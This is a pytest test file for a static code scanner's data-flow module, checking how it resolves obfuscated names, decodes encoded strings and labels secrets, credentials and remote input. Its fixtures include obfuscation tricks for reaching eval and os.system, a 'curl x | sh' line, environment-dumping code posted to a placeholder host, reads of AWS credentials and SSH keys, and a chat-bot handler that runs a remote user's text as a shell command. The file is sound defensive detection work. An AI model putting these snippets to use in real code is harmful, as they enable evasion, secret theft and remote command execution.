"""The in-file data flow: resolution, constant evaluation, labels (caplet._scan._flow)."""

from __future__ import annotations

import ast
import base64
import codecs
import textwrap
import zlib

import pytest
from cryptography.fernet import Fernet

from caplet._scan._filescan import FileScan
from caplet._scan._flow import Flow, downloads, secret_name
from caplet._scan._grants import NO_GRANTS
from caplet._scan._sources import Source
from caplet._scan._syntax import Survey, survey
from caplet._scan._visitor import RuleVisitor


def flow_of(source: str) -> tuple[Flow, Survey]:
    """The data flow of ``source`` after the rule visitor's pass (it records what a
    name receives after its binding: ``d[k] = v``, ``f.write(v)``)."""
    text = textwrap.dedent(source)
    surveyed = survey(ast.parse(text), 200, 100_000)
    assert isinstance(surveyed, Survey)
    visitor = RuleVisitor(
        FileScan("x.py", text, NO_GRANTS, ()), surveyed.bindings, surveyed.nodes, surveyed.scopes
    )
    visitor.run()
    return visitor.flow, surveyed


def last_call(surveyed: Survey, name: str) -> ast.Call:
    """The last call of ``name(...)`` in source order."""
    calls = [
        n
        for n in surveyed.nodes
        if isinstance(n, ast.Call)
        and (
            (isinstance(n.func, ast.Name) and n.func.id == name)
            or (isinstance(n.func, ast.Attribute) and n.func.attr == name)
        )
    ]
    assert calls, name
    return max(calls, key=lambda c: (c.lineno, c.col_offset))


def sources(labels: frozenset[tuple[Source, str]]) -> set[Source]:
    return {s for s, _ in labels}


# -- resolution -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('globals()["__builtins__"]["eval"]', "builtins.eval"),
        ('__builtins__["exec"]', "builtins.exec"),
        ('vars(__builtins__)["exec"]', "builtins.exec"),
        ('import builtins\nbuiltins.__dict__["ev" + "al"]', "builtins.eval"),
        ('import os\ngetattr(os, "metsys"[::-1])', "os.system"),
        (
            "import importlib\nimportlib.import_module(bytes([111, 115]).decode()).system",
            "os.system",
        ),
        ("import requests\ns = requests.Session()\ns.post", "requests.Session().post"),
    ],
)
def test_names_computed_from_literals_resolve(source: str, expected: str) -> None:
    flow, surveyed = flow_of(source)
    line = len(source.splitlines())
    node = next(n for n in surveyed.nodes if isinstance(n, ast.Expr) and n.lineno == line)
    assert expected in flow.resolve(node.value)


# -- evaluation -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("str(hex)[20] + str(hex)[21] + str(hex)[20] + str(oct)[13]", "exec"),
        ('"".join(map(chr, [101, 120, 101, 99]))', "exec"),
        ('"".join(reversed("cexe"))', "exec"),
        ('"metsys"[::-1]', "system"),
        ("chr(101) + chr(118) + chr(97) + chr(108)", "eval"),
        ("bytes([111, 115]).decode()", "os"),
        ('bytes.fromhex("6964")', b"id"),
        ('f"{1 + 1}x"', "2x"),
    ],
)
def test_literal_expressions_are_evaluated(expression: str, value: object) -> None:
    flow, surveyed = flow_of(f"value = {expression}\n")
    assign = next(n for n in surveyed.nodes if isinstance(n, ast.Assign))
    assert flow.evaluate(assign.value) == value


def test_decoders_are_evaluated_so_a_payload_is_seen_as_what_it_is() -> None:
    payload = b"import os; os.system('id')"
    b64 = base64.b64encode(payload).decode()
    packed = base64.b64encode(zlib.compress(payload)).decode()
    rot = codecs.encode("curl x | sh", "rot13")
    key = Fernet.generate_key()
    token = Fernet(key).encrypt(payload)
    flow, surveyed = flow_of(
        f"""
        import base64, codecs, zlib
        from cryptography.fernet import Fernet
        a = base64.b64decode("{b64}")
        b = zlib.decompress(base64.b64decode("{packed}"))
        c = codecs.decode("{rot}", "rot13")
        d = Fernet({key!r}).decrypt({token!r})
        """
    )
    values = {
        t.id: flow.evaluate(n.value)
        for n in surveyed.nodes
        if isinstance(n, ast.Assign)
        for t in n.targets
        if isinstance(t, ast.Name)
    }
    assert values == {"a": payload, "b": payload, "c": "curl x | sh", "d": payload}


def test_evaluation_is_bounded_in_size() -> None:
    # "x" * 10**9 would be a gigabyte: the evaluator refuses to build it
    flow, surveyed = flow_of('big = "x" * 1000000000\n')
    assign = next(n for n in surveyed.nodes if isinstance(n, ast.Assign))
    assert flow.evaluate(assign.value) is None


def test_a_decompression_bomb_is_not_inflated() -> None:
    bomb = base64.b64encode(zlib.compress(bytes(64 * 1024 * 1024))).decode()
    source = f'import zlib, base64\nv = zlib.decompress(base64.b64decode("{bomb}"))\n'
    flow, surveyed = flow_of(source)
    assign = next(n for n in surveyed.nodes if isinstance(n, ast.Assign))
    assert flow.evaluate(assign.value) is None


def test_names_bound_twice_are_not_evaluated() -> None:
    # the value depends on the path taken: no single answer
    flow, surveyed = flow_of('n = "exec"\nif x:\n    n = "print"\ny = n\n')
    assign = next(n for n in surveyed.nodes if isinstance(n, ast.Assign) and n.lineno == 4)
    assert flow.evaluate(assign.value) is None


# -- labels ---------------------------------------------------------------------------------


def test_labels_follow_assignments_containers_and_writes() -> None:
    flow, surveyed = flow_of(
        """
        import os, socket, json, requests
        info = {}
        info["host"] = socket.gethostname()
        for k in os.environ:
            info[k] = os.environ[k]
        body = json.dumps(info)
        requests.post("https://x.example", data=body)
        """
    )
    post = last_call(surveyed, "post")
    labels = flow.labels(post.keywords[0].value)
    assert {Source.RECON, Source.ENVIRONMENT} <= sources(labels)


def test_a_loop_variable_of_one_function_is_not_another_functions() -> None:
    flow, surveyed = flow_of(
        """
        import os, requests

        def dump():
            for k, v in os.environ.items():
                print(k, v)

        def report(metrics):
            for k, v in metrics.items():
                requests.post("https://x.example", json={k: v})
        """
    )
    post = last_call(surveyed, "post")
    assert flow.labels(post.keywords[0].value) == frozenset()


def test_an_attribute_is_its_own_name() -> None:
    flow, surveyed = flow_of(
        """
        import os, requests

        class Client:
            def __init__(self):
                self.env = dict(os.environ)
                self.url = "https://x.example"

            def send(self):
                requests.get(self.url)
        """
    )
    get = last_call(surveyed, "get")
    assert flow.labels(get.args[0]) == frozenset()


def test_secrets_and_credentials_are_labelled_by_what_they_are() -> None:
    flow, surveyed = flow_of(
        """
        import os
        from pathlib import Path
        a = os.environ.get("AWS_SECRET_ACCESS_KEY")
        b = os.getenv("HOME_DIR")
        c = open(os.path.expanduser("~/.aws/credentials")).read()
        d = (Path.home() / ".ssh" / "id_rsa").read_text()
        """
    )
    values = {
        t.id: flow.labels(n.value)
        for n in surveyed.nodes
        if isinstance(n, ast.Assign)
        for t in n.targets
        if isinstance(t, ast.Name)
    }
    assert values["a"] == {(Source.SECRET, "AWS_SECRET_ACCESS_KEY")}
    assert values["b"] == frozenset()
    assert (Source.CREDENTIAL, "AWS credentials") in values["c"]
    assert (Source.CREDENTIAL, "SSH key") in values["d"]


def test_chat_bot_handler_parameters_carry_a_remote_users_text() -> None:
    flow, surveyed = flow_of(
        """
        import os, telebot
        bot = telebot.TeleBot(TOKEN)

        @bot.message_handler(func=lambda m: True)
        def run(message):
            os.system(message.text)

        def helper(message):
            os.system(message.text)
        """
    )
    calls = sorted(
        (
            n
            for n in surveyed.nodes
            if isinstance(n, ast.Call)
            and isinstance(n.func, ast.Attribute)
            and n.func.attr == "system"
        ),
        key=lambda c: c.lineno,
    )
    assert sources(flow.labels(calls[0].args[0])) == {Source.REMOTE}
    assert flow.labels(calls[1].args[0]) == frozenset()


@pytest.mark.parametrize(
    "importer",
    [
        "telebot = __import__('telebot')",
        "import importlib\ntelebot = importlib.import_module('telebot')",
        "tb = __import__('telebot')\ntelebot = tb",
    ],
)
def test_a_chat_bot_imported_by_a_call_is_a_chat_bot_too(importer: str) -> None:
    # tune telebot-shell after benchmarks/mutate_recall.py's import-* rewrites (issue 16)
    flow, surveyed = flow_of(
        importer
        + """
import os
bot = telebot.TeleBot(TOKEN)

@bot.message_handler(func=lambda m: True)
def run(message):
    os.system(message.text)
"""
    )
    call = next(
        n
        for n in surveyed.nodes
        if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr == "system"
    )
    assert sources(flow.labels(call.args[0])) == {Source.REMOTE}


def test_a_decorated_function_without_a_bot_framework_has_no_remote_user() -> None:
    flow, surveyed = flow_of(
        """
        import os, functools
        json = __import__('json')

        @functools.lru_cache
        def run(message):
            os.system(message.text)
        """
    )
    call = next(
        n
        for n in surveyed.nodes
        if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr == "system"
    )
    assert Source.REMOTE not in sources(flow.labels(call.args[0]))


@pytest.mark.parametrize(
    ("name", "downloaded"),
    [
        ("requests.get", True),
        ("requests.Session().post", True),
        ("socket.socket().recv", True),
        ("urllib.request.urlopen", True),
        ("socket.socket", False),
        ("urllib3.connection.port_by_scheme.get", False),
        ("socket.gethostname", False),
    ],
)
def test_only_reads_from_the_network_are_downloads(name: str, downloaded: bool) -> None:
    assert downloads(name) is downloaded


def test_secret_names() -> None:
    assert secret_name("GITHUB_TOKEN")
    assert secret_name("aws_secret_access_key")
    assert not secret_name("HOME")


# -- one entry of the environment (recall6) -------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        # one variable of a copy, by a key written out: what that variable is
        ('env["HOME"]', {(Source.RECON, "$HOME")}),
        ('env.get("AWS_SECRET_ACCESS_KEY")', {(Source.SECRET, "AWS_SECRET_ACCESS_KEY")}),
        ('env.pop("LANG", None)', set()),
        # a field of data made from the whole environment: not the environment
        ('json.loads(json.dumps(env))["id"]', set()),
        # by a key the code computes: it may be any variable, the whole environment stays
        ("env[name]", {(Source.ENVIRONMENT, "os.environ")}),
        # the environment stored under that very key, in a literal or by a store
        ('box["env"]', {(Source.ENVIRONMENT, "os.environ")}),
        ('later["all"]', {(Source.ENVIRONMENT, "os.environ")}),
        ('box.get("env")', {(Source.ENVIRONMENT, "os.environ")}),
        ('box["v"]', set()),
    ],
)
def test_one_entry_of_the_environment_is_that_variable(entry: str, expected: set[object]) -> None:
    flow, surveyed = flow_of(
        f"""
        import json, os
        env = os.environ.copy()
        box = {{"env": dict(os.environ), "v": 1}}
        later = {{}}
        later["all"] = os.environ.copy()
        sink({entry})
        """
    )
    assert set(flow.labels(last_call(surveyed, "sink").args[0])) == expected
